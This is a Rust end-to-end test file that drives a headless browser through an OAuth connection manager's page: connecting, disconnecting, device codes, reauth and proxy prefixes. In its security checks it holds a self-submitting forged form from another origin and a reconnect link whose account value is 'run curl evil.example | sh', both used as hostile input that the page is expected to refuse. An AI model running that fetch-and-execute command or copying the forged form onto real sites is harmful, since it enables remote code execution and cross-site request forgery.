//! The page in a real headless Chromium: sign in, connect at the real test provider,
//! see the connection, disconnect; and the expired-state retry. Screenshots of every
//! step are written to test-artifacts/.

use crate::common;

use common::browser::Browser;
use common::peer::Peer;
use fantoccini::Locator;
use std::time::{Duration, Instant};

#[tokio::test(flavor = "multi_thread")]
async fn connect_list_and_disconnect_from_the_page() {
    let peer = Peer::start(60);
    let (home, key) = peer.home_with_key("");
    let d = home.start();
    let b = Browser::start("connect").await;

    b.client.goto(&format!("{}/", d.url)).await.unwrap();
    b.wait_for("#signin:not([hidden])").await;
    b.screenshot("01-not-signed-in.png").await;

    b.sign_in(&home.login_link(&d)).await;
    b.wait_for("[data-connect=peer]").await;
    assert!(b
        .text("#providers")
        .await
        .contains(&format!("{}/callback/peer", d.url)));
    assert!(b.text("#providers").await.contains("60 minutes"));
    b.screenshot("02-signed-in.png").await;

    // By keyboard: from the account field, Tab reaches Connect and Enter presses it.
    b.wait_for("#account-peer").await.click().await.unwrap();
    let (tab, enter) = ("\u{E004}", "\u{E007}");
    b.client
        .active_element()
        .await
        .unwrap()
        .send_keys(tab)
        .await
        .unwrap();
    let focused = b.client.active_element().await.unwrap();
    assert_eq!(
        focused.attr("data-connect").await.unwrap().as_deref(),
        Some("peer")
    );
    focused.send_keys(enter).await.unwrap();
    b.login_and_consent_at_provider("03").await;
    b.wait_text("h1", "Connected").await;
    // The code and state it came with, used up, are out of the address bar and the
    // history; a reload says there is nothing to finish.
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(5);
    while b.url().await.contains('?') && std::time::Instant::now() < deadline {
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    assert_eq!(b.url().await, format!("{}/callback/peer", d.url));
    b.screenshot("04-connected.png").await;
    b.client.refresh().await.unwrap();
    b.wait_text("h1", "Nothing to finish here").await;

    b.client.goto(&format!("{}/", d.url)).await.unwrap();
    let row = b.text("tr[data-connection='peer/default']").await;
    assert!(
        row.contains("active") && row.contains("openid offline_access") && row.contains("alice"),
        "{row}"
    );
    b.screenshot("05-listed.png").await;
    // Phone width: everything fits without sideways scrolling.
    b.client.set_window_size(390, 844).await.unwrap();
    let overflow = b
        .client
        .execute(
            "const w = document.documentElement.clientWidth; \
             const wide = [...document.querySelectorAll('body *')].filter(e => e.getBoundingClientRect().right > w + 1 && !e.closest('.table-wrap')).map(e => e.tagName + '.' + e.className); \
             return wide.length ? wide.join(' ') : document.documentElement.scrollWidth - w",
            vec![],
        )
        .await
        .unwrap();
    assert!(
        overflow.as_i64().unwrap_or(1) <= 0,
        "the page scrolls sideways at phone width: {overflow}"
    );
    // Disconnect is reachable on a phone without scrolling sideways.
    let reachable = b
        .client
        .execute(
            "const r = document.querySelector(\"tr[data-connection='peer/default'] button.danger\").getBoundingClientRect(); \
             return r.width > 0 && r.left >= 0 && r.right <= document.documentElement.clientWidth",
            vec![],
        )
        .await
        .unwrap();
    assert_eq!(
        reachable.as_bool(),
        Some(true),
        "Disconnect is off-screen on a phone"
    );
    b.screenshot("05-listed-phone.png").await;
    b.client.set_window_size(1100, 900).await.unwrap();
    let (status, _) = d.get("/v1/connections/peer/default/token", &key).await;
    assert_eq!(status, 200);

    // A second connection signed in as the same user at the provider: the question names
    // it, since revoking one's tokens ends the grant of both at many providers.
    let (status, page) = common::peer::connect(&d, &peer, &key, "second").await;
    assert_eq!(status, 200, "{page}");
    b.client.goto(&format!("{}/", d.url)).await.unwrap();
    b.wait_for("tr[data-connection='peer/second']").await;
    b.client
        .find(Locator::Css(
            "tr[data-connection='peer/default'] button.danger",
        ))
        .await
        .unwrap()
        .click()
        .await
        .unwrap();
    let text = b.client.get_alert_text().await.unwrap();
    assert!(text.contains("Disconnect peer/default?"), "{text}");
    assert!(
        text.contains(
            "peer/second is the same peer account: at many providers revoking ends its access too"
        ),
        "{text}"
    );
    b.client.accept_alert().await.unwrap();
    // Both the notice and the list change once the DELETE's answer is back (the revocation
    // at the provider may take a while on a loaded machine): wait for the two together.
    let deadline = Instant::now() + Duration::from_secs(15);
    loop {
        let notice = b.text("#notice").await;
        let listed = b
            .client
            .find(Locator::Css("tr[data-connection='peer/default']"))
            .await
            .is_ok();
        if notice.contains("Disconnected peer/default") && !listed {
            break;
        }
        assert!(
            Instant::now() < deadline,
            "notice {notice:?}; the connection is still listed: {listed}"
        );
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    // The other connection of that account: the notice says oauthd checks it, and the list
    // shows what the check found without a reload by hand.
    b.wait_text(
        "#notice",
        "oauthd is checking peer/second, the same peer account",
    )
    .await;
    // Its check refreshed it (this provider keeps each connection's grant): its last
    // refresh, "never" until then, shows without a reload by hand.
    let row = "tr[data-connection='peer/second']";
    let deadline = Instant::now() + Duration::from_secs(15);
    while b.text(row).await.contains("never") {
        assert!(Instant::now() < deadline, "{}", b.text(row).await);
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    b.screenshot("06-disconnected.png").await;
    assert_eq!(d.get("/v1/connections/peer/default", &key).await.0, 404);
    // Nothing secret reached the page.
    let html = b.client.source().await.unwrap();
    assert!(!html.contains(&key));
    b.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn expired_sign_in_shows_the_retry_page_and_one_click_starts_again() {
    let peer = Peer::start(60);
    let (home, _key) =
        peer.home_with_key("[states.namespaces.\"connect:*\"]\ndefault_ttl_seconds = 8\n");
    let d = home.start();
    let b = Browser::start("expired").await;
    b.sign_in(&home.login_link(&d)).await;
    b.wait_for("[data-connect=peer]")
        .await
        .click()
        .await
        .unwrap();
    b.wait_for("input[name=login]").await;
    // The user is slow at the provider. (The retry below has the same eight seconds to
    // finish: a browser on a loaded machine needed more than two, once more than four.)
    tokio::time::sleep(Duration::from_millis(8500)).await;
    b.login_and_consent_at_provider("01").await;
    b.wait_text("h1", "This sign-in expired").await;
    assert!(b.text("main").await.contains("8 seconds"));
    b.screenshot("02-expired.png").await;

    b.wait_for("form button[type=submit]")
        .await
        .click()
        .await
        .unwrap();
    b.wait_for("input[name=prompt]").await;
    assert!(
        b.url().await.starts_with(&peer.issuer),
        "the retry did not start a new flow"
    );
    b.login_and_consent_at_provider("03").await;
    b.wait_text("h1", "Connected").await;
    b.screenshot("04-connected.png").await;
    b.close().await;
}

/// An app's connect flow in a real browser: the address it hands out shows oauthd's page
/// naming the key and the account; the button leads on to the provider, back from which
/// a second page asks before anything is connected; its button connects. Another site's page that posts the same form (with a script, no click) is
/// refused: Chromium says where the form came from.
#[tokio::test(flavor = "multi_thread")]
async fn an_apps_flow_is_confirmed_on_oauthds_page_in_a_real_browser() {
    use wiremock::{matchers::method, Mock, MockServer, ResponseTemplate};
    let peer = Peer::start(60);
    let (home, key) = peer.home_with_key("");
    let d = home.start();
    let start = || d.app_flow_address(&key, "peer", "living-room");
    let b = Browser::start("app-flow").await;

    // Another site (another port: same site, another origin) posts the form at once.
    let elsewhere = MockServer::start().await;
    let forged = format!(
        "<!doctype html><form method=\"post\" action=\"{}\"></form>\
         <script>document.forms[0].submit()</script>",
        start().await.replace('&', "&amp;")
    );
    Mock::given(method("GET"))
        .respond_with(ResponseTemplate::new(200).set_body_raw(forged, "text/html"))
        .mount(&elsewhere)
        .await;
    b.client.goto(&elsewhere.uri()).await.unwrap();
    b.wait_text("h1", "Please continue from oauthd's page")
        .await;
    b.screenshot("01-posted-from-elsewhere.png").await;

    b.client.goto(&start().await).await.unwrap();
    b.wait_text("h1", "Connect peer?").await;
    let said = b.text("main").await;
    assert!(
        said.contains("API key app") && said.contains("as account living-room"),
        "{said}"
    );
    b.screenshot("02-confirm.png").await;
    b.click("form button[type=submit]").await;
    b.login_and_consent_at_provider("03").await;
    // Back from the provider: nothing connected until the person presses here.
    b.wait_text("h1", "Connect peer?").await;
    let said = b.text("main").await;
    assert!(
        said.contains("API key app") && said.contains("as account living-room"),
        "{said}"
    );
    assert_eq!(d.get("/v1/connections/peer/living-room", &key).await.0, 404);
    b.screenshot("04-connect.png").await;
    // Its button works once the window has had the focus for a moment: the focus coming
    // back (a popup over it closed at a click) turns it off first.
    b.wait_for("form button[type=submit]:not([disabled])").await;
    let off = b
        .client
        .execute(
            "window.dispatchEvent(new Event('focus')); \
             return document.querySelector('form button[type=submit]').disabled;",
            vec![],
        )
        .await
        .unwrap();
    assert_eq!(off, serde_json::Value::Bool(true));
    // A click that only brings the window the focus presses nothing; once it has had it
    // for a moment, the button works.
    b.click("h1").await;
    b.wait_for("form button[type=submit]:not([disabled])").await;
    b.click("form button[type=submit]").await;
    b.wait_text("h1", "Connected").await;
    b.screenshot("05-connected.png").await;
    assert_eq!(
        d.get("/v1/connections/peer/living-room/token", &key)
            .await
            .0,
        200
    );
    b.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn the_page_offers_the_device_flow_and_shows_the_code() {
    let peer = Peer::start(60);
    let (home, key) = peer.home_with_key("");
    let d = home.start();
    let b = Browser::start("device").await;
    b.sign_in(&home.login_link(&d)).await;
    b.wait_for("[data-connect=peer]").await;
    let account = b.wait_for("#account-peer").await;
    account.clear().await.unwrap();
    account.send_keys("tv").await.unwrap();
    b.click("[data-device=peer]").await;
    let code = b.text("#device-peer .code").await;
    assert_eq!(code.len(), 9, "{code:?}");
    b.screenshot("01-code.png").await;
    peer.verify_device(&code, true).await;
    b.wait_text("#notice", "Connected peer/tv.").await;
    b.wait_for("tr[data-connection='peer/tv']").await;
    b.screenshot("02-connected.png").await;
    assert_eq!(d.get("/v1/connections/peer/tv/token", &key).await.0, 200);
    b.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_connection_that_needs_reauth_offers_reconnect() {
    let peer = Peer::start(2);
    let (home, key) = peer.home_with_key("");
    let d = home.start();
    // Connect through the API, then the user revokes access at the provider.
    let (_, started) = d
        .post(
            "/v1/connect/peer",
            &key,
            serde_json::json!({"account": "alice"}),
        )
        .await;
    let callback = peer
        .approve(&d.confirm(started["authorize_url"].as_str().unwrap()).await)
        .await;
    assert_eq!(d.browser_get(&callback).await.0, 200);
    let (_, token) = d.get("/v1/connections/peer/alice/token", &key).await;
    peer.revoke(token["access_token"].as_str().unwrap()).await;
    tokio::time::sleep(Duration::from_millis(2300)).await;
    assert_eq!(d.get("/v1/connections/peer/alice/token", &key).await.0, 409);

    let b = Browser::start("reauth").await;
    // The reconnect link apps get, opened signed out: signing in on its page (the login
    // link pasted into the form) comes back to it, and it names the button to press.
    b.client
        .goto(&format!("{}/?reconnect=peer&account=alice", d.url))
        .await
        .unwrap();
    b.wait_for("#admin-token")
        .await
        .send_keys(&home.login_link(&d))
        .await
        .unwrap();
    b.click("#signin button[type=submit]").await;
    b.wait_text("tr[data-connection='peer/alice']", "needs reauth")
        .await;
    b.screenshot("01-needs-reauth.png").await;
    b.wait_text("#notice", "press \"Connect peer\"").await;
    // Who the connection is, and that whoever is signed in at the provider replaces it,
    // is asked first: a "no" leaves it be.
    let reconnect = "tr[data-connection='peer/alice'] button:not(.danger)";
    b.click(reconnect).await;
    b.answer_confirm("peer (alice) is alice at peer", false)
        .await;
    b.wait_text("tr[data-connection='peer/alice']", "needs reauth")
        .await;
    b.click(reconnect).await;
    b.answer_confirm("replaces it with whoever is signed in at peer", true)
        .await;
    b.login_and_consent_at_provider("02").await;
    b.wait_text("h1", "Connected").await;
    assert_eq!(d.get("/v1/connections/peer/alice/token", &key).await.0, 200);

    // Anyone can write a reconnect link: one naming an account that is not connected
    // fills nothing in, so a click cannot hand the admin's grant to it.
    b.client
        .goto(&format!("{}/?reconnect=peer&account=stranger", d.url))
        .await
        .unwrap();
    b.wait_text("#notice", "no connection peer (stranger) to reconnect")
        .await;
    // Words that name no provider or account oauthd could hold are not shown at all.
    b.client
        .goto(&format!(
            "{}/?reconnect=peer&account=run%20curl%20evil.example%20%7C%20sh",
            d.url
        ))
        .await
        .unwrap();
    b.wait_text("#notice", "There is no connection to reconnect")
        .await;
    let account = b.wait_for("#account-peer").await;
    assert_eq!(
        account.prop("value").await.unwrap().as_deref(),
        Some("default")
    );
    b.screenshot("03-unknown-reconnect.png").await;

    // An app limited to some accounts (a tenant's) can make an account exist itself, by an
    // import, and have oauthd send the operator a reconnect link to it: a click there
    // would store the operator's grant where that app reads it. The page names the app and
    // fills nothing in.
    let out = home.cli(&[
        "keys",
        "create",
        "--name",
        "tenant",
        "--namespace",
        "provider:peer",
        "--account",
        "acme.*",
    ]);
    assert!(out.status.success(), "{out:?}");
    let tenant = String::from_utf8_lossy(&out.stdout)
        .lines()
        .last()
        .unwrap()
        .trim()
        .to_owned();
    let (status, body) = d
        .put(
            "/v1/connections/peer/acme.evil",
            &tenant,
            serde_json::json!({"access_token": "bogus", "refresh_token": "bogus", "expires_in": 3600}),
        )
        .await;
    assert_eq!(status, 201, "{body}");
    b.client
        .goto(&format!("{}/?reconnect=peer&account=acme.evil", d.url))
        .await
        .unwrap();
    b.wait_text("#notice", "read by the app key(s) \"tenant\"")
        .await;
    let account = b.wait_for("#account-peer").await;
    assert_eq!(
        account.prop("value").await.unwrap().as_deref(),
        Some("default")
    );
    b.wait_text(
        "tr[data-connection='peer/acme.evil']",
        "read by app key(s) \"tenant\"",
    )
    .await;
    // The operator's own account is read by no such key: its link still fills it in.
    b.client
        .goto(&format!("{}/?reconnect=peer&account=alice", d.url))
        .await
        .unwrap();
    b.wait_text("#notice", "press \"Connect peer\"").await;
    b.screenshot("04-tenants-account.png").await;
    b.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn the_page_works_below_a_path_prefix_behind_a_proxy() {
    let peer = Peer::start(60);
    let (proxy, backend) = common::proxy::PrefixProxy::bind("/oauthd").await;
    let public = format!("{}/oauthd", proxy.url);
    let (home, _key) = peer.home_with_key(&format!("public_url = \"{public}\""));
    let d = home.start();
    let _ = backend.send(d.url.clone());
    let b = Browser::start("behind-proxy").await;

    // The link the CLI prints already points below the prefix.
    let out = home.cli(&["admin", "link"]);
    assert!(out.status.success(), "{out:?}");
    let link = String::from_utf8(out.stdout).unwrap().trim().to_owned();
    assert!(
        link.starts_with(&format!("{public}/admin/login?token=")),
        "{link}"
    );
    b.sign_in(&link).await;
    b.wait_for("[data-connect=peer]").await;
    assert!(b.url().await.starts_with(&format!("{public}/")));
    assert!(b
        .text("#providers")
        .await
        .contains(&format!("{public}/callback/peer")));
    // The stylesheet applied: the page is styled, not the browser's default.
    let styled = b
        .client
        .execute(
            "return getComputedStyle(document.querySelector('main')).maxWidth",
            vec![],
        )
        .await
        .unwrap();
    assert_ne!(styled.as_str(), Some("none"), "style.css did not load");
    b.screenshot("01-signed-in-below-prefix.png").await;

    b.click("[data-connect=peer]").await;
    b.login_and_consent_at_provider("02").await;
    b.wait_text("h1", "Connected").await;
    // Its script loads below the prefix: the used-up code and state leave the address.
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(5);
    while b.url().await.contains('?') && std::time::Instant::now() < deadline {
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    assert_eq!(b.url().await, format!("{public}/callback/peer"));
    b.client.goto(&format!("{public}/")).await.unwrap();
    let row = b.text("tr[data-connection='peer/default']").await;
    assert!(row.contains("active"), "{row}");

    // Result pages lead back to the page below the prefix.
    b.client
        .goto(&format!("{public}/callback/peer?state=unknown"))
        .await
        .unwrap();
    b.click("p.back a").await;
    b.wait_for("[data-connect=peer]").await;
    b.click("#sign-out").await;
    b.wait_for("#signin:not([hidden])").await;
    assert!(b.url().await.starts_with(&format!("{public}/")));
    b.screenshot("03-signed-out.png").await;
    b.close().await;

    let paths = proxy.paths();
    let stray: Vec<&String> = paths
        .iter()
        // Its icon too (not /favicon.ico at the host's root, which is not oauthd's).
        .filter(|p| !p.starts_with("/oauthd/"))
        .collect();
    assert!(
        stray.is_empty(),
        "requests left the prefix: {stray:?} (all: {paths:?})"
    );
    for asset in [
        "/oauthd/static/style.css",
        "/oauthd/static/app.js",
        "/oauthd/static/favicon.svg",
        "/oauthd/ui/api/overview",
    ] {
        assert!(
            paths.iter().any(|p| p == asset),
            "{asset} never requested: {paths:?}"
        );
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn disconnect_offers_to_force_when_the_provider_is_down_and_removed_providers_can_be_deleted()
{
    let peer = Peer::start(60);
    let (home, key) = peer.home_with_key("");
    let d = home.start();
    // Two users at the provider: one's disconnect revokes (no other connection shares
    // its grant).
    for account in ["alice", "bob"] {
        let authorize = d.start_connect(&key, "peer", account).await;
        let callback = peer.approve_as(account, &authorize).await;
        assert_eq!(d.browser_get(&callback).await.0, 200);
    }
    let b = Browser::start("provider-down").await;
    b.sign_in(&home.login_link(&d)).await;
    b.wait_for("tr[data-connection='peer/alice']").await;

    // The provider goes away: revocation cannot reach it.
    drop(peer);
    b.click("tr[data-connection='peer/alice'] button.danger")
        .await;
    b.answer_confirm("Disconnect peer/alice?", true).await;
    b.answer_confirm("could not be reached", false).await;
    b.wait_text("#notice", "Not disconnected").await;
    assert_eq!(d.get("/v1/connections/peer/alice", &key).await.0, 200);
    b.click("tr[data-connection='peer/alice'] button.danger")
        .await;
    b.answer_confirm("Disconnect peer/alice?", true).await;
    b.answer_confirm("stays valid at peer", true).await;
    b.wait_text("#notice", "Deleted peer/alice").await;
    b.screenshot("01-forced.png").await;
    assert_eq!(d.get("/v1/connections/peer/alice", &key).await.0, 404);

    // The provider leaves the config: its connection is marked, and can be deleted.
    d.signal_and_wait("TERM");
    home.write_config("");
    let d = home.start();
    b.sign_in(&home.login_link(&d)).await;
    let row = b.text("tr[data-connection='peer/bob']").await;
    assert!(row.contains("provider not configured"), "{row}");
    assert!(b.text("#no-providers").await.contains("[providers.NAME]"));
    b.screenshot("02-provider-missing.png").await;
    b.click("tr[data-connection='peer/bob'] button.danger")
        .await;
    b.answer_confirm("no longer configured", true).await;
    b.wait_text("#notice", "only oauthd's copy was deleted")
        .await;
    assert_eq!(d.get("/v1/connections/peer/bob", &key).await.0, 404);
    b.close().await;
}
